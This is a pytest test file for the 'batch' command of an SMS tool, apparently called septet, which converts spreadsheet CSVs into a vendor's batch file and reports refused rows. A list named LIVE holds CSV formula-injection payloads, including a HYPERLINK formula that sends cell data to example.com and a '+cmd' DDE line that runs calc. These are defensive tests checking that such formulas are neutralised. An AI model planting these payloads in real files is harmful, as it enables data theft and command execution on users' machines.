"""septet batch: from a spreadsheet's CSV to the vendor's batch file, or to a line that tells why not."""

from __future__ import annotations

import csv
import io
import json
import re
import shlex
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from batch_examples import HEADER, NUMBER, vendor_file
from command_line import COMMAND, environment, in_terminal, invoke, one_complaint, posix_only
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sources import ROOT

import septet
from septet.files.spreadsheet_cells import unguarded

GOOD = 'Numéro;Message;Émetteur\r\n0612345678;"Été à 10 €, dit ""elle""";RDV\r\n33612345679;b;\r\n'
GOOD_BATCH = HEADER + b'"0612345678","\xc9t\xe9 \xe0 10 \xa4, dit ""elle""","RDV"\n"33612345679","b",""\n'
MIXED = "numero;message;ville\r\n0612345678;a;Paris\r\n06 12 34 56 7;b;Metz\r\n0612345678;l’eau;Caen\r\n"


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("NO_COLOR", "FORCE_COLOR", "COLUMNS"):
        monkeypatch.delenv(name, raising=False)


def save(text: str, charset: str = "cp1252") -> None:
    Path("in.csv").write_bytes(text.encode(charset))


def names() -> list[str]:
    return sorted(path.name for path in Path().iterdir())


# --- what is read -------------------------------------------------------------------------


@pytest.mark.parametrize("charset", ["cp1252", "utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
@pytest.mark.parametrize("line_end", ["\r\n", "\n"])
def test_a_file_as_a_spreadsheet_saves_it(charset: str, delimiter: str, line_end: str) -> None:
    rows = GOOD.replace("Été à 10 €, dit", "Été à 10 €; dit") if delimiter == ";" else GOOD
    save(rows.replace(";", delimiter).replace("€" + delimiter, "€,").replace("\r\n", line_end), charset)
    result = invoke("batch", "in.csv", "out.csv")
    assert result.exit_code == 0, result.stderr
    content = Path("out.csv").read_bytes()
    assert content in (GOOD_BATCH, GOOD_BATCH.replace(b"\xa4,", b"\xa4" + delimiter.encode()))
    assert result.stdout == "out.csv: 2 rows, 1 with warnings, 2 billed segments, at most 1 in one message\n"
    assert result.stderr.endswith(
        "sendSMSBatch.do as fichier, with nbr_msg=1 and your credentials; "
        "septet request --batch out.csv shows how\n"
    )


def test_encoding_delimiter_and_columns_may_be_said() -> None:
    save("Mobile|Texte|Qui\n0612345678|10 €|RDV\n", "iso-8859-15")
    result = invoke(
        *("batch", "in.csv", "out.csv", "--delimiter", "|", "--file-encoding", "iso-8859-15"),
        *("--recipient-column", "mobile", "--text-column", "TEXTE", "--sender-column", "Qui"),
    )
    assert result.exit_code == 0, result.stderr
    assert Path("out.csv").read_bytes() == HEADER + b'"0612345678","10 \xa4","RDV"\n'


@pytest.mark.parametrize(
    ("delimiter", "word"), [(";", "semicolon"), (",", "comma"), ("\t", "tab"), ("\t", r"\t")]
)
def test_a_delimiter_may_be_said_by_its_word(delimiter: str, word: str) -> None:
    save(delimiter.join(["recipient", "text", "sender"]) + "\n" + delimiter.join([NUMBER, "a", "RDV"]) + "\n")
    result = invoke("batch", "in.csv", "out.csv", "--delimiter", word)
    assert result.exit_code == 0, result.stderr
    assert Path("out.csv").read_bytes().endswith(f'"{NUMBER}","a","RDV"\n'.encode())
    assert invoke("estimate", "in.csv", "-c", "text", "--delimiter", word).exit_code == 0


@pytest.mark.parametrize("encoding", ["idna", "punycode", "rot13", "undefined", "hex", "no-such"])
@pytest.mark.parametrize("command", [("batch", "in.csv", "out.csv"), ("count", "--file", "in.csv")])
def test_what_is_no_encoding_of_files(command: tuple[str, ...], encoding: str) -> None:
    save("recipient;text;sender\n33612345678;abc;RDV\n")
    said = one_complaint(invoke(*command, "--file-encoding", encoding))
    assert f"--file-encoding: '{encoding}' is not a known encoding" in said


def test_standard_input_and_pipes() -> None:
    assert invoke("batch", "-", "out.csv", stdin=GOOD.encode("cp1252")).exit_code == 0
    assert Path("out.csv").read_bytes() == GOOD_BATCH


@pytest.mark.parametrize("source", ["in.csv", "-"])
def test_standard_output_takes_the_batch_file_or_the_refused_rows(source: str) -> None:
    save(MIXED)
    stdin = Path("in.csv").read_bytes()
    first = invoke("batch", source, "-", "--rejects", "refused.csv", stdin=stdin)
    second = invoke("batch", source, "out.csv", "--rejects", "-", stdin=stdin)
    assert (first.exit_code, second.exit_code) == (1, 1)
    assert first.stdout_bytes == Path("out.csv").read_bytes() == HEADER + b'"0612345678","a",""\n'
    assert second.stdout_bytes == Path("refused.csv").read_bytes()
    assert "standard output: 1 row, 1 billed segment, at most 1 in one message\n" in first.stderr
    assert "refused.csv: 2 of 3 rows refused\n" in first.stderr
    assert "standard output: 2 of 3 rows refused\n" in second.stderr
    assert names() == ["in.csv", "out.csv", "refused.csv"]  # no file is named -


def test_standard_output_gets_nothing_of_a_file_that_is_not_whole() -> None:
    save(MIXED)
    result = invoke("batch", "in.csv", "-")
    assert (result.exit_code, result.stdout_bytes) == (1, b"")
    assert "nothing is written: 2 of 3 rows refused" in result.stderr


def test_a_file_that_is_named_as_a_stream() -> None:
    save(GOOD)
    assert invoke("batch", "in.csv", "./-").exit_code == 0
    assert Path("-").read_bytes() == GOOD_BATCH
    assert invoke("batch", "-", "./-", "--force", stdin=GOOD.encode("cp1252")).exit_code == 0


def test_lines_of_delimiters_alone_are_left_out() -> None:
    save("recipient;text;sender\n;;\n0612345678;a;\n\n;;\n")
    assert invoke("batch", "in.csv", "out.csv").stdout.startswith("out.csv: 1 row, 1 billed segment,")


def test_columns_that_are_not_used_are_named() -> None:
    save("numero;message;emeteur\n0612345678;a;RDV\n")
    assert "in.csv: columns not used: 'emeteur'\n" in invoke("batch", "in.csv", "out.csv").stderr


def test_the_options_are_the_librarys() -> None:
    save(f"recipient;text\n{NUMBER};a\n32470123456;b\n")
    invoke("batch", "in.csv", "1.csv", "--commercial", "--sender", "RDV")
    assert Path("1.csv").read_bytes() == HEADER + (
        b'"0612345678","a STOP 36034","RDV"\n"32470123456","b no-sms.eu","RDV"\n'
    )
    invoke("batch", "in.csv", "2.csv", "--commercial", "--country", "FR", "--optout-text", "STOP 38123")
    assert Path("2.csv").read_bytes().count(b" STOP 38123") == 2
    own = vendor_file(Path("mine.toml"), ('file_field = "fichier"', 'file_field = "upload"'))
    assert " as upload, " in invoke("batch", "in.csv", "3.csv", "--profile", f"./{own}").stderr


# --- rows that are refused ----------------------------------------------------------------


def test_refused_rows_are_named_by_line_and_nothing_is_written() -> None:
    save(MIXED)
    result = invoke("batch", "in.csv", "out.csv")
    assert (result.exit_code, result.stdout) == (1, "")
    lines = result.stderr.splitlines()
    takes = "this vendor accepts numbers such as 0612345678 (only France) or 33612345678"
    assert lines[1].startswith(f'in.csv, line 3: error: "0612•••67": {takes}')
    whole = invoke("batch", "in.csv", "out.csv", "--show-numbers").stderr.splitlines()
    assert whole[1].startswith(f'in.csv, line 3: error: "061234567": {takes}')
    assert lines[2].startswith("in.csv, line 4: error: character 2: ")
    assert lines[2].endswith("[unicode-unavailable]")
    assert lines[3].startswith("nothing is written: 2 of 3 rows refused;")
    assert names() == ["in.csv"]


def test_the_refused_rows_go_into_a_file_that_can_be_mended_and_given_again() -> None:
    save(MIXED)
    result = invoke("batch", "in.csv", "out.csv", "--rejects", "refused.csv")
    assert result.exit_code == 1
    assert result.stdout == (
        "out.csv: 1 row, 1 billed segment, at most 1 in one message\nrefused.csv: 2 of 3 rows refused\n"
    )
    assert Path("out.csv").read_bytes() == HEADER + b'"0612345678","a",""\n'
    content = Path("refused.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")  # so that Excel reads it as UTF-8
    rows = list(csv.reader(content.decode("utf-8-sig").splitlines(), delimiter=";"))
    assert rows[0] == ["numero", "message", "ville", "line", "problem"]
    assert [row[:4] for row in rows[1:]] == [
        ["06 12 34 56 7", "b", "Metz", "3"],
        ["0612345678", "l’eau", "Caen", "4"],
    ]
    assert rows[1][4].endswith("[malformed-recipient]")

    mended = content.decode("utf-8").replace("06 12 34 56 7;", "0612345678;").replace("l’eau", "l'eau")
    Path("mended.csv").write_text(mended, encoding="utf-8", newline="")
    result = invoke("batch", "mended.csv", "more.csv", "--rejects", "none.csv")
    assert result.exit_code == 0, result.stderr
    assert Path("more.csv").read_bytes() == HEADER + b'"0612345678","b",""\n"0612345678","l\'eau",""\n'
    assert "'line'" not in result.stderr
    # It is written anyway, so that an older one is not mistaken for that of this run.
    assert Path("none.csv").read_text("utf-8-sig") == "numero;message;ville;line;problem\n"


#: Texts that a spreadsheet would run, or show without their first sign.
LIVE = [
    '=HYPERLINK("http://example.com?x="&A1;"Votre colis")',
    *("=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", " =1", '"=1', "\u00a0=1", "'=1", "'à 10 €"),
]


def table(rows: list[list[str]]) -> str:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=";").writerows(rows)
    return text.getvalue()


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text(st.sampled_from("=+-@\t '\"a1;é\u00a0"), min_size=1, max_size=6), min_size=1))
@example(LIVE)
def test_refused_rows_hold_no_live_formula_and_come_back_as_they_were(texts: list[str]) -> None:
    rows = [["numero", "message", "@ville", "'=1"], *([text, text, text, "=1"] for text in texts)]
    kept = [row for row in rows if any(row)]
    save(table(kept), "utf-8")
    for number in range(3):  # refused again and again, it stays the same
        source = "in.csv" if number == 0 else f"{number - 1}.csv"
        result = invoke("batch", source, "out.csv", "--rejects", f"{number}.csv", "--force")
        assert result.exit_code == 1, result.stderr
        content = Path(f"{number}.csv").read_text("utf-8-sig")
        found = list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))
        assert [[unguarded(cell) for cell in row[:4]] for row in found] == kept
        for cell in (cell for row in found for cell in row):
            begins = cell.lstrip(' "\u00a0\t')
            assert begins[:1] not in ("=", "@"), cell
            assert begins[:1] not in ("+", "-") or set(cell[1:]) <= set("0123456789 .,")


def test_mended_rows_have_their_texts_as_they_were() -> None:
    save(table([["numero", "message"], *(["12", text] for text in LIVE)]), "utf-8")
    assert invoke("batch", "in.csv", "out.csv", "--rejects", "refused.csv").exit_code == 1
    mended = Path("refused.csv").read_text("utf-8-sig").replace("\n12;", "\n0612345678;")
    # An apostrophe that the corrector writes is not a guard.
    Path("mended.csv").write_text(mended + "0612345678;'t is;99;mine\n", "utf-8")
    result = invoke("batch", "mended.csv", "out.csv", "--force")
    texts = [row.text for row in septet.read_batch_file("out.csv")]
    lossy = {"\t=1": "?=1", "\u00a0=1": "?=1"}
    assert texts == [*(lossy.get(text, text) for text in LIVE), "'t is"], result.stderr


def test_a_table_of_ones_own_is_read_as_it_stands() -> None:
    save("numero;message\n0612345678;'=1\n")
    invoke("batch", "in.csv", "out.csv")
    assert [row.text for row in septet.read_batch_file("out.csv")] == ["'=1"]


def test_rows_of_a_wrong_length_are_refused_alone() -> None:
    save("numero;message\n0612345678;a;b\n0612345678\n0612345678;c\n")
    result = invoke("batch", "in.csv", "out.csv", "--rejects", "refused.csv")
    assert result.exit_code == 1
    assert "in.csv, line 2: error: The row has 3 fields, but the header has 2." in result.stderr
    rows = list(csv.reader(Path("refused.csv").read_text("utf-8-sig").splitlines(), delimiter=";"))
    assert [row[:-1] for row in rows] == [
        ["numero", "message", "line"],
        ["0612345678", "a", "b", "2"],
        ["0612345678", "", "3"],
    ]


def test_every_row_refused_leaves_the_refused_ones_alone() -> None:
    save("numero;message\nx;a\n")
    result = invoke("batch", "in.csv", "out.csv", "--rejects", "refused.csv")
    assert (result.exit_code, result.stdout) == (1, "refused.csv: 1 of 1 row refused\n")
    assert "in.csv: error: Every row is refused. Give at least one. [recipients-missing]" in result.stderr
    assert names() == ["in.csv", "refused.csv"]


def test_many_rows_with_one_problem_are_counted_unless_all_are_asked_for() -> None:
    save("numero;message\n" + f"{NUMBER};fête, çà\n" * 50)
    result = invoke("batch", "in.csv", "out.csv")
    assert result.exit_code == 0
    # Two problems in each of 20 rows, then one line about the others.
    assert result.stderr.count("[lossy-substitution]") == 41
    assert "in.csv: 30 more rows have [lossy-substitution]; --all lists each\n" in result.stderr
    assert invoke("batch", "in.csv", "2.csv", "--all").stderr.count("[lossy-substitution]") == 100
    assert invoke("batch", "in.csv", "3.csv", "--refuse-lossy").exit_code == 1


def test_a_problem_shows_no_control_character() -> None:
    save(f"numero;message\n{NUMBER};\x1b[31m\n")
    assert "\x1b" not in invoke("batch", "in.csv", "out.csv").stderr


def test_json() -> None:
    save(MIXED)
    result = invoke("batch", "in.csv", "out.csv", "--json")
    assert result.exit_code == 1
    shape = json.loads(result.stdout)
    assert (shape["written"], shape["rows"], shape["accepted"], shape["refused"]) == (False, 3, 1, 2)
    assert shape["counts"] == {"malformed-recipient": 1, "unicode-unavailable": 1}


# --- wrong usage --------------------------------------------------------------------------

WRONG = {
    "no such file": ("", ["absent.csv", "out.csv"], "absent.csv cannot be read: No such file or directory"),
    "a folder": ("", [".", "out.csv"], ". cannot be read: Is a directory"),
    "nothing in it": ("", ["in.csv", "out.csv"], "in.csv is empty: expected a header"),
    "no column of numbers": (
        "nom;message\n",
        ["in.csv", "out.csv"],
        "in.csv: no column holds the recipient: expected recipient or numero, found 'nom', 'message'; "
        "name it with --recipient-column",
    ),
    "no column of that name": (
        "numero;message\n",
        ["in.csv", "out.csv", "--text-column", "texte"],
        "no column holds the text: expected texte, found 'numero', 'message'; name it with --text-column",
    ),
    "two columns of numbers": (
        "numero;message;Numéro\n",
        ["in.csv", "out.csv"],
        "in.csv: the columns numero and Numéro both hold the recipient: expected one",
    ),
    "the quotation marks do not pair": (
        'numero;message\n0612345678;a\n0612345678;"b\n',
        ["in.csv", "out.csv", "--rejects", "refused.csv"],
        "in.csv, line 3: a quotation mark is opened in this row and never closed",
    ),
    "another encoding than said": (
        "numero;message\n0612345678;été\n",
        ["in.csv", "out.csv", "--file-encoding", "utf-8"],
        "in.csv, line 2: byte 0xE9 is not utf-8; say how it is encoded with --file-encoding",
    ),
    "neither UTF-8 nor Windows-1252": (
        "numero;message\n0612345678;caf\x81 \x81\n",
        ["in.csv", "out.csv"],
        "in.csv, line 2: byte 0x81 is not cp1252; say how it is encoded",
    ),
    "an encoding that no one knows": (
        GOOD,
        ["in.csv", "out.csv", "--file-encoding", "latin-77"],
        "--file-encoding: 'latin-77' is not a known encoding",
    ),
    "a delimiter of two characters": (
        GOOD,
        ["in.csv", "out.csv", "--delimiter", "||"],
        "--delimiter: expected one",
    ),
    "a profile without batch files": (
        GOOD,
        ["in.csv", "out.csv", "-p", "gsm"],
        "has no batch files; expected smsmode",
    ),
    "a sender that no row could have": (
        GOOD,
        ["in.csv", "out.csv", "--sender", "0612345678"],
        '--sender: The sender "0612345678" is a number',
    ),
    "an option that the vendor lacks": (
        GOOD,
        ["in.csv", "out.csv", "--max-segments", "9"],
        "--max-segments: smsmode takes a whole number from 1 to 5",
    ),
    "the file itself": (
        GOOD,
        ["in.csv", "./in.csv", "--force"],
        "OUT: ./in.csv is that of IN: expected another name",
    ),
    "a file that is there": (GOOD, ["in.csv", "there.csv"], "OUT: there.csv exists already"),
    "refused rows where a file is": (
        GOOD,
        ["in.csv", "out.csv", "--rejects", "there.csv"],
        "--rejects: there.csv exists already",
    ),
    "both in one file": (
        GOOD,
        ["in.csv", "out.csv", "--rejects", "./out.csv"],
        "OUT and --rejects name the same file: expected two names",
    ),
    "both on standard output": (
        GOOD,
        ["in.csv", "-", "--rejects", "-"],
        "OUT and --rejects would both be on standard output: expected a file for one",
    ),
    "an answer in JSON beside a file": (
        GOOD,
        ["in.csv", "-", "--json"],
        "OUT and --json would both be on standard output",
    ),
    "refused rows beside an answer in JSON": (
        GOOD,
        ["in.csv", "out.csv", "--rejects", "-", "--json"],
        "--rejects and --json would both be on standard output",
    ),
    "a folder that is not there": (
        GOOD,
        ["in.csv", "absent/out.csv"],
        "absent/out.csv: No such file or directory; nothing was written",
    ),
    "a place that is no file": (GOOD, ["in.csv", ".", "--force"], ". is not a regular file"),
}


@pytest.mark.parametrize("wrong", WRONG)
def test_wrong_usage_is_one_line_and_leaves_nothing(wrong: str) -> None:
    text, arguments, says = WRONG[wrong]
    save(text, "latin-1" if "\x81" in text else "cp1252")
    Path("there.csv").write_bytes(b"of yesterday")
    result = invoke("batch", *arguments)
    assert says in one_complaint(result), result.stderr
    assert names() == ["in.csv", "there.csv"]
    assert Path("there.csv").read_bytes() == b"of yesterday"


def test_force_replaces_what_was_there() -> None:
    save(GOOD)
    Path("out.csv").write_bytes(b"of yesterday")
    assert invoke("batch", "in.csv", "out.csv", "--force").exit_code == 0
    assert Path("out.csv").read_bytes() == GOOD_BATCH


# --- the real command ---------------------------------------------------------------------


@posix_only
def test_a_disk_that_fills_up_leaves_what_was_there() -> None:
    save("numero;message\n" + f"{NUMBER};{'a' * 150}\n" * 5000)
    Path("out.csv").write_bytes(b"of yesterday")
    code = (
        "import resource, sys; resource.setrlimit(resource.RLIMIT_FSIZE, (300_000, 300_000)); "
        "from septet.__main__ import main; main()"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, "batch", "in.csv", "out.csv", "--force", "--no-numbering-plans"],
        capture_output=True,
        text=True,
        env=environment(),
        check=False,
    )
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == "septet: out.csv: File too large; nothing was written\n"
    assert names() == ["in.csv", "out.csv"]
    assert Path("out.csv").read_bytes() == b"of yesterday"


@posix_only
def test_an_interruption_leaves_nothing() -> None:
    save("numero;message\n" + f"{NUMBER};a\n" * 5000)
    # Stops in the middle of the rows, and waits there for the signal.
    code = """
import time
from septet.sending.batch import checks as batch_checks
from septet.__main__ import main
check, rows = batch_checks.Checker.check, []
def slow(self, row):
    rows.append(row)
    if len(rows) == 4000:
        print("now", flush=True)
        time.sleep(60)
    return check(self, row)
batch_checks.Checker.check = slow
main()
"""
    process = subprocess.Popen(
        [sys.executable, "-c", code, "batch", "in.csv", "out.csv", "--rejects", "refused.csv"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=environment(),
    )
    assert process.stdout is not None
    assert process.stdout.readline() == "now\n"
    assert len(names()) == 3
    process.send_signal(signal.SIGINT)
    assert process.communicate() == ("", "")
    assert process.returncode == 130
    assert names() == ["in.csv"]


@posix_only
def test_a_terminal_gets_a_bar_and_a_pipe_none() -> None:
    save("numero;message\n" + f"{NUMBER};a\n" * 5000)
    shown = in_terminal(["batch", "in.csv", "out.csv", "--no-numbering-plans"], 80)
    assert re.search(r"batch .*━.* +\d+%", shown)
    assert "out.csv: 5 000 rows, 5 000 billed segments, at most 1 in one message" in shown
    dumb = in_terminal(["batch", "in.csv", "2.csv", "--no-numbering-plans"], 80, TERM="dumb")
    assert "━" not in dumb
    done = subprocess.run(
        [*COMMAND, "batch", "in.csv", "3.csv", "--no-numbering-plans"],
        capture_output=True,
        text=True,
        env=environment(),
        check=True,
    )
    assert done.stderr.splitlines() == [
        "send it to https://api.smsmode.com/http/1.6/sendSMSBatch.do as fichier, with nbr_msg=1 and your "
        "credentials; septet request --batch 3.csv shows how"
    ]


def test_the_page_shows_what_happens() -> None:
    page = (ROOT / "docs" / "batch.md").read_text("utf-8")
    blocks = dict(re.findall(r"^```(csv|console)\n(.*?)^```", page, re.M | re.S))
    Path("clients.csv").write_text(blocks["csv"], "cp1252")
    command, _, shown = blocks["console"].partition("\n")
    done = subprocess.run(
        [*COMMAND, *command.removeprefix("$ septet ").split()],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        encoding="utf-8",
        env=environment(),
        check=False,
    )
    assert (done.returncode, done.stdout) == (1, shown)


# --- the request that sends it --------------------------------------------------------------


def test_the_request_of_what_was_written() -> None:
    save(GOOD)
    invoke("batch", "in.csv", "out.csv")
    result = invoke("request", "--batch", "out.csv", "--tag", "mai", "--send-at", "2130-03-05T10:00")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines() == [
        "POST https://api.smsmode.com/http/1.6/sendSMSBatch.do",
        "multipart/form-data, ISO-8859-15; the fields in the address, the file in the body",
        "",
        "date_envoi  05032130-10:00",
        "refClient   mai",
        "nbr_msg     1",
        f"fichier     out.csv (text/csv, {len(GOOD_BATCH)} octets)",
    ]
    assert "add your credentials: the field accessToken" in result.stderr
    assert result.stderr.endswith(
        "out.csv: 2 rows, 1 with warnings, 0 refused, 2 billed segments, at most 1 in one message\n"
    )
    piped = invoke("request", "--batch", "-", "--json", stdin=GOOD_BATCH)
    prepared = septet.prepare_batch(None, io.BytesIO(GOOD_BATCH))
    assert json.loads(piped.stdout) == prepared.to_dict()


def test_curl_gets_the_file_by_its_name() -> None:
    name = 'of "may", 1;2.csv'
    save(GOOD)
    invoke("batch", "in.csv", name)
    words = shlex.split(invoke("request", "--batch", name, "--curl", "--sender", "RDV").stdout)
    address = "https://api.smsmode.com/http/1.6/sendSMSBatch.do?emetteur=RDV&nbr_msg=1"
    quoted = r'"of \"may\", 1;2.csv"'
    part = f"fichier=@{quoted};filename=fichier.csv;type=text/csv"
    assert words == ["curl", "--request", "POST", address, "--form", part]
    piped = shlex.split(invoke("request", "--batch", "-", "--curl", stdin=GOOD_BATCH).stdout)
    assert piped[-1] == "fichier=@-;filename=fichier.csv;type=text/csv"
    own = vendor_file(Path("mine.toml"), ('parameters = "query"', 'parameters = "multipart"'))
    words = shlex.split(invoke("request", "--batch", name, "--curl", "-p", f"./{own}").stdout)
    assert words[3:6] == [address.partition("?")[0], "--form-string", "nbr_msg=1"]


def test_a_batch_that_may_not_be_sent_has_no_request() -> None:
    Path("out.csv").write_bytes(HEADER + b'"12","a",""\n' * 50)
    result = invoke("request", "--batch", "out.csv", "--send-at", "2001-01-01T10:00")
    assert (result.exit_code, result.stdout) == (1, "")
    assert "[schedule-past]" in result.stderr
    assert result.stderr.count("[malformed-recipient]") == 20
    assert result.stderr.endswith(
        "out.csv: 50 rows, 50 refused, 0 billed segments, at most 0 in one message\n"
    )


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (["absent.csv"], "--batch: absent.csv cannot be read: No such file or directory"),
        (["."], "--batch: . cannot be read: Is a directory"),
        (["in.csv"], "in.csv, line 1: expected the header"),
        (["out.csv", "Bonjour"], "TEXT and --batch are both given"),
        (["out.csv", "--file", "in.csv"], "--file and --batch are both given"),
        (["out.csv", "--recipients", "0612345678"], "--recipients: a batch file has a recipient in each row"),
        (["out.csv", "--method", "GET"], "--method: a batch file goes out by POST, found 'GET'"),
        (["out.csv", "-p", "gsm"], "profile gsm has no batch files; expected smsmode"),
        (["out.csv", "--vendor-field", "stop=1"], "--vendor-field: 'stop' is not a field of smsmode"),
        (["out.csv", "--vendor-field", "stop"], "--vendor-field: expected NAME=VALUE"),
    ],
)
def test_wrong_usage_of_a_batch_is_one_line(arguments: list[str], says: str) -> None:
    save(GOOD)
    Path("out.csv").write_bytes(GOOD_BATCH)
    assert says in one_complaint(invoke("request", "--batch", *arguments))


def test_what_the_command_writes_is_what_the_library_reads() -> None:
    save(GOOD)
    invoke("batch", "in.csv", "out.csv")
    assert list(septet.read_batch_file("out.csv")) == [
        septet.BatchRow(2, "0612345678", 'Été à 10 €, dit "elle"', "RDV"),
        septet.BatchRow(3, "33612345679", "b"),
    ]
